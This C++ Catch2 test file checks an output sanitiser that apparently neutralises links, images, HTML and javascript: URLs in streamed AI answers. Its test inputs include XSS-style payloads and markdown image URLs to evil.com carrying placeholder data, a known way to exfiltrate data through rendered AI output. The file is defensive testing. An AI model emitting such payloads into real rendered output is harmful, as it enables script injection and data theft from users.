// The egress stage: text that it makes inert, URLs that it rewrites, text that it holds, and positions.
#include "egress/egress_stage.hpp"

#include <algorithm>
#include <cstddef>
#include <random>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <catch2/catch.hpp>

#include "egress/payloads.hpp"
#include "egress/staged.hpp"

using namespace citestream;
using namespace citestream_tests;

namespace {

struct example {
  std::string_view text;
  std::string_view expected;
};

void check(const std::vector<example>& examples) {
  for (const example& one : examples) {
    INFO(one.text);
    CHECK(staged(one.text) == one.expected);
  }
}

/// Texts that combine pieces of known attacks. The same in every run.
std::vector<std::string> mixed_texts(std::size_t count) {
  const std::vector<payload> all = payloads();
  std::mt19937 random(7);  // NOLINT: the same each time
  std::vector<std::string> out;
  for (std::size_t i = 0; i < count; ++i) {
    std::string text;
    for (int n = 0; n < 4; ++n) {
      const std::string& one = all[random() % all.size()].text;
      const std::size_t begin = random() % one.size();
      text.append(one, begin, 1 + random() % (one.size() - begin));
    }
    out.push_back(std::move(text));
  }
  return out;
}

/// The first position in \p text that is active and not allowed, or npos. Knows the sequences in their plain
/// spelling, without escapes.
std::size_t active_place(std::string_view text) {
  const auto letter = [](char c) { return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z'); };
  const auto allowed = [&](std::size_t at) {
    return text.substr(at).starts_with("https://ref.example/page?a=1") ||
           (text.substr(at).starts_with("https://") &&
            text.substr(at, text.find_first_of(":/", at + 8) - at).ends_with(".good.example"));
  };
  for (std::size_t at = 0; at + 1 < text.size(); ++at) {
    const std::string_view rest = text.substr(at);
    const char next = rest[1];
    if (rest[0] == '<' && (letter(next) || next == '/' || next == '!' || next == '?')) {
      const std::string_view tag = rest.substr(0, rest.find('>'));
      const bool plain = tag.size() < 10 && std::all_of(tag.begin() + 2, tag.end(), [&](char c) {
                           return letter(c) || c == '/' || c == ' ';
                         });
      if (!plain && !rest.starts_with("<a href=\"#cite-") && !allowed(at + 1)) return at;
    }
    if (rest.starts_with("://") && !text.substr(0, at).ends_with('[') && (at < 5 || !allowed(at - 5)))
      return at;
    if (rest.starts_with("](") &&
        (rest.substr(2).starts_with("//") || rest.substr(2).starts_with("javascript:")))
      return at;
    if (rest.starts_with("//") && rest.size() > 2 && letter(rest[2]) && (at < 6 || !allowed(at - 6)))
      return at;
  }
  return std::string_view::npos;
}

}  // namespace

TEST_CASE("URLs in apparent code are made inert") {
  check(
      {{"x www./` ![i](https://evil.com/S)`", "x www[.]/` ![i]\u200B(https:/\u200B/evil.com/S)`"},
       {"x www./`<svg onload=alert(1)>`", "x www[.]/`<\u200Bsvg onload=alert(1)>`"},
       {"$`$![x](https://evil.com/S)`", "$`$![x]\u200B(https:/\u200B/evil.com/S)`"},
       {"| a |\n```\n<script>x</script>\n```", "| a |\n```\n<\u200Bscript>x<\u200B/script>\n```"},
       {"<a>$https://a.good.example/http://evil.com/S", "&lt;a>$https://a.good.example/http:/%2Fevil.com/S"},
       {"see //evil.com/S", "see /\u200B/evil.com/S"},
       {"www.evil.com/S", "www[.]evil[.]com/S"}});
}

TEST_CASE("each sequence of active characters is broken up") {
  check({{"<img src=x>", "&lt;img src=x>"},
         {"</div><!--<?x", "&lt;/div>&lt;!--&lt;?x"},
         {"[a](https://evil.com/x)", "[a]\\(https[://]evil[.]com/x)"},
         {"![a](//evil.com)", "![a]\\(/\u200B/evil.com)"},
         {"[x]: https://evil.com", "[x]\\: https[://]evil[.]com"},
         {"[x]:\n  <https://evil.com>", "[x]\\:\n  &lt;https[://]evil[.]com>"},
         {"[a](javascript:f)", "[a]\\(javascript[:]f)"},
         {"[a]: javascript: f\n[^1] [b]: Source: x", "[a]\\: javascript: f\n[^1] [b]\\: Source: x"},
         {"http:evil.com `ftp:evil.com` https:/evil.com",
          "http[:]evil.com `ftp\u200B:evil.com` https[:]/evil.com"},
         {"[a](tel:1) [b](x:y)", "[a]\\(tel:1) [b]\\(x:y)"},
         {"[a](java\nscript:f)", "[a]\\(java\nscript:f)"},
         {"[a](\u00A0javascript:f)", "[a]\\(\u00A0javascript[:]f)"},
         {"data:text/html,x", "data[:]text/html,x"},
         {"javascript:(f)", "javascript[:]\u200B(f)"},
         {"[a](data:*x)", "[a]\\(data:*x)"},
         {"[a]: data:*x", "[a]\\: data:*x"},
         {"<data:*x>", "&lt;data:*x>"},
         {"https:///evil.com `https:///evil.com`", "https[://]/evil.com `https:/\u200B/\u200B/evil.com`"},
         {"https://(x)", "https[://]\u200B(x)"}});
}

TEST_CASE("escapes and character references hide nothing") {
  check({{"www\\.evil.com", "www[.]evil[.]com"},
         {"https\\://evil.com", "https[://]evil[.]com"},
         {"https:\\/\\/evil.com", "https[://]evil[.]com"},
         {"https&colon;//evil.com", "https[://]evil[.]com"},
         {"https:&#47;&#x2F;evil.com", "https[://]evil[.]com"},
         {"&#119;ww&period;evil.com", "&#119;ww[.]evil[.]com"},
         {"&#x3c;img>", "&lt;img>"},
         {"&lt;img>", "&lt;img>"},
         {"\\<img>", "&lt;img>"},
         {"\\](javascript:x)", "\\]\\(javascript[:]x)"},
         {"jav&#97;script:x", "jav&#97;script[:]x"},
         {"javascript:&#32;x //&#9;x", "javascript[:]&#32;x /\u200B/&#9;x"}});
}

TEST_CASE("text after an allowed URL cannot extend it") {
  check({{"https://a.good.example.", "https://a.good.example/."},
         {"https://A.Good.Example:443/x", "https://a.good.example:443/x"},
         {"https://a.good.example/a//b/www.c@d", "https://a.good.example/a/%2Fb/www%2Ec%40d"},
         {"https://a.good.example.evil.com/", "https[://]a[.]good[.]example[.]evil[.]com/"},
         {"https://a.good.example@evil.com/", "https[://]a[.]good[.]example@evil.com/"},
         {"xhttps://a.good.example/", "xhttps[://]a[.]good[.]example/"},
         {"https://ref.example/page?a=1, and", "https://ref.example/page?a=1, and"},
         {"https://ref.example/page?a=1\"", "https://ref.example/page?a=1 \""},
         {"https://ref.example/page?a=1\fS", "https://ref.example/page?a=1 \fS"},
         {"https://ref.example/page?a=12", "https[://]ref[.]example/page?a=12"},
         {"[a](https://ref.example/page?a=1).", "[a](https://ref.example/page?a=1)."},
         {"[a](https://ref.example/page?a=1)b", "[a](https://ref.example/page?a=1) b"},
         {"https://ref.example/page?a=1&#32;S", "https://ref.example/page?a=1 &#32;S"},
         {"https://ref.example/page?a=1.&#10;S", "https://ref.example/page?a=1 .&#10;S"},
         {"[a](https://ref.example/page?a=1)&#9;S", "[a](https://ref.example/page?a=1) &#9;S"},
         {"[a](<https://a.good.example/x> \"t\")", "[a](https://a.good.example/x \"t\")"},
         {"[x]:\nhttps://a.good.example/x\n", "[x]: https://a.good.example/x\n"},
         {"<https://a.good.example/x>", "<https://a.good.example/x>"},
         {"<https://a.good.example/onclick=f>", "&lt;https://a.good.example/onclick=f>"}});
}

TEST_CASE("ordinary text is unchanged") {
  for (const char* text : {"a < b",
                           "1.2.3",
                           "foo.md",
                           "$a_{i}[j](k)$",
                           "user@example.com",
                           "[1]",
                           "[1][2] [3, 4] [^1]",
                           "Awww... no",
                           "see [the part](#part) and [the guide](docs/guide.md#top)",
                           "[Note]: this is \"important\"",
                           "[^1]: Source: a book\n[^2]: See:\n    that",
                           "[^a note]: Note: this",
                           "[Time](10:30) and [Genesis](1:1)",
                           "<think>\nx\n</think>",
                           "x: y",
                           "10:30",
                           "C:\\Users\\me",
                           "and/or",
                           "// a comment",
                           "/// more",
                           "H<sub>2</sub>O<br>",
                           "<sup>[1]</sup>",
                           "<sup class=\"unresolved\">?</sup>",
                           "x <3",
                           "<sup><a href=\"#cite-12\" data-citation=\"12\">[12]</a></sup>",
                           "the data: 1, 2",
                           "- **Data:** we\n- _File:_ a.txt\n- <b>JavaScript:</b> a language",
                           "| **Data:** | (data:) | `file:` | \"blob:\" |",
                           "f[0](1)",
                           "a && b",
                           "https://a.good.example/x_y(z)",
                           "**https://a.good.example/x**",
                           "（https://a.good.example/x）",
                           "&amp; &lt;b"}) {
    INFO(text);
    CHECK(staged(text) == text);
  }
  CHECK(staged("List<int>") == "List&lt;int>");
  CHECK(staged("`List<int>`") == "`List<\u200Bint>`");
  CHECK(staged("$x<y$ and") == "$x< y$ and");
  CHECK(staged("If $0<x<1$, a<b") == "If $0< x<1$, a&lt;b");
  CHECK(staged("from $5 to $6 <b x>\n\n<b x>") == "from $5 to $6 &lt;b x>\n\n&lt;b x>");
  CHECK(staged("a $2n<b$ or $5\t<b x>") == "a $2n< b$ or $5\t&lt;b x>");
  CHECK(staged("from $5 to $x<y$, <b x>") == "from $5 to $x< y$, &lt;b x>");
  CHECK(staged("\\(a<b\\) <b x> \\[a<b\\]") == "\\(a< b\\) &lt;b x> \\[a< b\\]");
}

TEST_CASE("ordinary answers give the expected output") {
  const std::vector<payload> all = ordinary_answers();
  CHECK(all.size() >= 100);
  for (const payload& one : all) {
    INFO(one.name);
    CHECK(staged(one.text) == one.expected);
  }
}

TEST_CASE("combinations of known attacks contain nothing active afterwards") {
  for (const std::string& text : mixed_texts(3000)) {
    const std::string output = staged(text);
    INFO(text << "\n---\n" << output);
    const std::size_t place = active_place(output);
    CHECK(place == std::string::npos);
  }
}

TEST_CASE("every cut gives the same text and records and respects the limit") {
  for (const std::string& text : mixed_texts(300)) {
    egress_stage whole = stage();
    const std::string expected = staged(whole, {text});
    for (const std::size_t size : {1U, 2U, 3U, 7U}) {
      egress_stage by = stage();
      std::string out;
      text_edits edits;
      std::size_t most = 0;
      for (std::size_t at = 0; at < text.size(); at += size) {
        by.feed(std::string_view(text).substr(at, size), out, edits);
        most = std::max(most, by.held());
      }
      by.finish(out, edits);
      INFO(text);
      CHECK(out == expected);
      CHECK(by.recorded() == whole.recorded());
      CHECK(most < egress_stage::max_held);
      CHECK(edits.output().utf8 == out.size());
      CHECK(edits.input().utf8 == text.size());
    }
  }
}

TEST_CASE("a text that continues after its end forms nothing active") {
  const auto halves = [](std::string_view first, std::string_view second) {
    egress_stage by = stage();
    std::string out;
    text_edits edits;
    by.feed(first, out, edits);
    by.finish(out, edits);
    by.feed(second, out, edits);
    by.finish(out, edits);
    CHECK(edits.input().utf8 == first.size() + second.size());
    CHECK(edits.output().utf8 == out.size());
    return out;
  };
  CHECK(halves("![a]", "(x:evil.com)") == "![a] \u200B(x:evil.com)");
  CHECK(halves("![a](", "x:evil.com)") == "![a]\\( \u200Bx:evil.com)");
  CHECK(halves("![a](ht", "tp:evil.com)") == "![a](ht \u200Btp:evil.com)");
  CHECK(halves("[x]", ": x:evil.com") == "[x] \u200B: x:evil.com");
  CHECK(halves("<", "img src=x>") == "< \u200Bimg src=x>");
  CHECK(halves("/", "/evil.com") == "/ \u200B/evil.com");
  CHECK(halves("https:", "//evil.com") == "https: \u200B/\u200B/evil.com");
  CHECK(halves("ww", "w.evil.com") == "www[.]evil[.]com");
  CHECK(halves("javascript", ":f") == "javascript[:]f");
  CHECK(halves("https://a.good.example", ".evil.com") == "https://a.good.example/ \u200B.evil.com");
  CHECK(halves("https://ref.example/page?a=1", "S") == "https://ref.example/page?a=1 \u200BS");
  CHECK(halves("two words", ", and more") == "two words, and more");
  for (const std::string& text : mixed_texts(300)) {
    for (std::size_t at = 0; at < text.size(); at += 3) {
      const std::string left = halves(text.substr(0, at), text.substr(at));
      INFO(text << "\n---\n" << left);
      CHECK(active_place(left) == std::string::npos);
    }
  }
}

TEST_CASE("text longer than the limit is made inert") {
  const std::string filler(2 * egress_stage::max_held, 'x');
  for (const std::string start :
       {"[a](https://a.good.example/", "https://a.good.example/", "<https://a.good.example/",
        "[x]: https://a.good.example/", "[a](", "////////"}) {
    const std::string text = start + filler + ") <img>";
    INFO(start);
    const std::string expected = staged(text);
    CHECK(expected.find("https://") == std::string::npos);
    CHECK(expected.find("<img") == std::string::npos);
    egress_stage by = stage();
    std::string out;
    text_edits edits;
    for (const char c : text) {
      by.feed(std::string_view(&c, 1), out, edits);
      CHECK(by.held() <= egress_stage::max_held);
    }
    by.finish(out, edits);
    CHECK(out == expected);
  }
}

TEST_CASE("only the possible start of something active is held back") {
  const auto held_after = [](std::string_view text) {
    egress_stage by = stage();
    std::string out;
    text_edits edits;
    by.feed(text, out, edits);
    return by.held();
  };
  for (const char* text : {"Plain words", "An end.", "a [link", "`code` and", "a (b) ", "1 / 2", "https",
                           "f(x", "* a", "x] y", "www"}) {
    INFO(text);
    CHECK(held_after(text) == 0);
  }
  CHECK(held_after("a [x]") == 1);
  CHECK(held_after("a:") == 1);
  CHECK(held_after("a <") == 1);
  CHECK(held_after("https://evil.example/x") == 17);
  CHECK(held_after("[a](https://evil.example/x ") == 0);
}

TEST_CASE("unchanged words keep their positions in the output") {
  const std::string text = "é one <b x> two https://evil.com/ three ![a](//e.com) four";
  egress_stage by = stage();
  std::string out;
  text_edits edits;
  by.feed(text, out, edits);
  by.finish(out, edits);
  for (const std::string word : {"one", "two", "three", "four"}) {
    text_offset at;
    at.advance(std::string_view(text).substr(0, text.find(word)));
    text_offset expected;
    expected.advance(std::string_view(out).substr(0, out.find(word)));
    CHECK(edits.place(at, edit_side::after) == expected);
  }
}

TEST_CASE("report mode changes nothing and lists the places that enforce changes") {
  for (const payload& one : payloads()) {
    INFO(one.name);
    egress_stage enforcing = stage();
    egress_stage reporting = stage(egress_mode::report);
    staged(enforcing, {one.text});
    CHECK(staged(reporting, {one.text}) == one.text);
    REQUIRE(reporting.recorded() == enforcing.recorded());
    for (std::size_t i = 0; i < reporting.records().size(); ++i) {
      CHECK(reporting.records()[i].kind == enforcing.records()[i].kind);
      CHECK(reporting.records()[i].position.utf8 < one.text.size());
    }
  }
}

TEST_CASE("a URL is recorded once with its context") {
  const auto kinds = [](std::string_view text) {
    egress_stage by = stage();
    staged(by, {text});
    std::vector<egress_kind> out;
    for (const egress_record& one : by.records()) out.push_back(one.kind);
    return out;
  };
  using kind = egress_kind;
  CHECK(kinds("a ![x](https://evil.com/q) b") == std::vector{kind::image});
  CHECK(kinds("[![x](//evil.com/q)](https://evil.com)") == std::vector{kind::image, kind::link});
  CHECK(kinds("<https://evil.com> <b x>") == std::vector{kind::autolink, kind::html});
  CHECK(kinds("https://evil.com www.evil.com //evil.com") == std::vector{kind::url, kind::url, kind::url});
  CHECK(kinds("[x]: https://evil.com") == std::vector{kind::definition});
  CHECK(kinds("[x](<https://evil.com>) <https://evil.com>") == std::vector{kind::link, kind::autolink});
  CHECK(kinds("[x]( https://evil.com) [y](\n https://evil.com)") == std::vector{kind::link, kind::link});
  CHECK(kinds("> [x](\n> https://evil.com) [y](\n>http:evil.com)") == std::vector{kind::link, kind::link});
  CHECK(kinds("[x]:\n<https://evil.com> <<https://evil.com>") ==
        std::vector{kind::definition, kind::autolink});
  CHECK(kinds("[a](b.md) &lt;b https://a.good.example/x").empty());
}

TEST_CASE("exact mode keeps one-line spans and fences in column 0 unambiguously") {
  const auto exact = [](std::string_view text) {
    egress_stage by = stage(egress_mode::enforce, egress_code::exact);
    return staged(by, {text});
  };
  for (const char* text :
       {"Use `a<b>` and `https://evil.com`.", "```html\n<p>\n```\n\nx", "a\n\n~~~\n//x\n~~~\n\nb"}) {
    INFO(text);
    CHECK(exact(text) == text);
  }
  CHECK(exact("a\n```\n<p>\n```\nb <p>") == "a\n\n```\n<p>\n```\n\nb &lt;p>");
  CHECK(exact("```\n<p>\n ```` x\n```") == "```\n<p>\n\u200B ```` x\n```");
  CHECK(exact("$ `<p>`") == "$ `<\u200Bp>`");
  CHECK(exact("| `<p>` |") == "| `<\u200Bp>` |");
  CHECK(exact("[`]: //e/`") == "[`]\u200B: /\u200B/e/`");
  CHECK(exact("`a\n<p>`") == "`a\n<\u200Bp>`");
  CHECK(exact("`` ` `<p>`") == "`` ` `<\u200Bp>`");
  CHECK(exact("[a](b.md \"`\") <p>`") == "[a](b.md \"`\") <\u200Bp>`");
  CHECK(exact("- x\n  ```\n  <p>\n  ```\n\n`<p>`") == "- x\n  ```\n  <\u200Bp>\n  ```\n\n`<\u200Bp>`");
  for (const std::string opening : {"\\begin {equation}", "\\[", "$$", "$"}) {
    INFO(opening);
    CHECK(exact(opening + "\n\n```\n<p>\n```\n") == opening + "\n\n```\n<\u200Bp>\n```\n");
  }
  for (const std::string& text : mixed_texts(300)) {
    const std::string whole = exact(text);
    egress_stage by = stage(egress_mode::enforce, egress_code::exact);
    std::vector<std::string_view> bytes;
    for (std::size_t i = 0; i < text.size(); ++i) bytes.push_back(std::string_view(text).substr(i, 1));
    INFO(text);
    CHECK(staged(by, bytes) == whole);
  }
}

TEST_CASE("exact mode ends a fence alike however much text follows in the same piece") {
  const auto exact = [](std::string_view text, std::size_t size) {
    egress_stage by = stage(egress_mode::enforce, egress_code::exact);
    std::vector<std::string_view> pieces;
    for (std::size_t at = 0; at < text.size(); at += size) pieces.push_back(text.substr(at, size));
    return staged(by, pieces);
  };
  for (std::size_t count = egress_stage::max_held - 40; count < egress_stage::max_held + 40; ++count) {
    const std::string after(count, 'x');
    const std::string text = "```\n//x\n```\n\n" + after + "\n";
    INFO(count);
    CHECK(exact(text, text.size()) == text);
    const std::string blanks = "```\n//x\n```" + std::string(count, ' ') + "\n" + after;
    CHECK(exact(blanks, blanks.size()) == exact(blanks, 1));
  }
}

TEST_CASE("other texts and URLs are made inert without changing the stage") {
  egress_stage by = stage();
  std::string out;
  text_edits edits;
  by.feed("a [x]", out, edits);
  std::string label;
  by.append_inert("[l](https://evil.com)", label);
  CHECK(label == "[l]\\(https[://]evil[.]com)");
  CHECK(by.held() == 1);
  CHECK(by.recorded() == 0);
  const auto inert = [&](std::string_view url) {
    std::string made;
    by.append_inert_url(url, made);
    return made;
  };
  CHECK(inert("https://ref.example/page?a=1") == "https://ref.example/page?a=1");
  CHECK(inert("https://evil.com/p?q=S") == "https[://]evil[.]com/p?q=S");
  CHECK(inert("javascript:f") == "javascript[:]f");
  CHECK(inert("http:evil.com") == "http[:]evil.com");
  CHECK(inert("//evil.com") == "./\u200B/evil.com");
  CHECK(inert("\\\\evil.com") == ".\\\\evil.com");
  CHECK(inert("javascript: f") == "javascript[:] f");
  CHECK(inert("file-17") == "file-17");
  CHECK(inert("4:0") == "4:0");
}
